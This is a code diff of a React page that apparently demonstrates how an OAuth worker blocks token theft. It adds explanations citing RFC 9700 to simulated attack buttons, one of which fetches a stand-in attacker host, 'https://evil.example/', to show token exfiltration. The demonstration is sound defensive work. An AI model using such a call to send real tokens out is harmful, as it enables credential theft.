@@ -8,11 +8,13 @@ import { useConnection } from '../../connection/connection-context.js'
 import { Experiment } from '../../experiments/experiment.js'
 import { useExperiment } from '../../experiments/use-experiment.js'
 import { signInByPopup } from '../../experiments/use-experiment-client.js'
+import type { Explanation } from '../../faults/explanation.js'
 import { workerStory } from '../../story/stories/worker-story.js'
 import { Card } from '../../ui/card.js'
 import { ErrorAlert, errorTitle } from '../../ui/error-alert.js'
 import { FieldList } from '../../ui/field-list.js'
 import { Page } from '../../ui/page.js'
+import { useFocusOn } from '../../ui/use-focus-on.js'
 import { useWorkerClient } from '../../worker/use-worker-client.js'
 
 export function WorkerPage(): ReactNode {
@@ -67,20 +69,25 @@ function WorkerResult({ result: client }: { readonly result: OAuthClient }): Rea
   )
 }
 
-interface Attack {
+interface Attack extends Explanation {
   readonly label: string
-  readonly withoutCheck: string
   readonly run: (client: OAuthClient) => Promise<unknown>
 }
 
 const attacks: readonly Attack[] = [
   {
     label: 'Steal the access token',
+    expected: 'requests through the worker, which adds the token itself',
+    received: 'a request for the token',
+    rule: 'RFC 9700, section 4',
     withoutCheck: 'A script would send the token to its own server, and use it after the page is closed.',
     run: (client) => client.getAccessToken(),
   },
   {
     label: 'Send the token to another server',
+    expected: 'an address of one of the app’s resources',
+    received: 'https://evil.example/',
+    rule: 'RFC 9700, section 4.9',
     withoutCheck: 'A script would let the worker send the token to an address of its choice.',
     run: (client) => client.fetch('https://evil.example/'),
   },
@@ -90,6 +97,7 @@ const attacks: readonly Attack[] = [
 function Attacks({ client }: { readonly client: OAuthClient }): ReactNode {
   const [failed, setFailed] = useState<{ readonly attack: Attack; readonly error: unknown }>()
   const [running, setRunning] = useState<Attack>()
+  const place = useFocusOn(failed)
   const run = (attack: Attack): void => {
     setRunning(attack)
     attack
@@ -115,13 +123,9 @@ function Attacks({ client }: { readonly client: OAuthClient }): ReactNode {
           </Button>
         ))}
       </Group>
-      {failed && (
-        <ErrorAlert error={failed.error} title={errorTitle(failed.error)}>
-          <Text size="sm">
-            <b>Without this check:</b> {failed.attack.withoutCheck}
-          </Text>
-        </ErrorAlert>
-      )}
+      <div ref={place} tabIndex={-1} className="outcome">
+        {failed && <ErrorAlert error={failed.error} title={errorTitle(failed.error)} explanation={failed.attack} />}
+      </div>
     </Card>
   )
 }
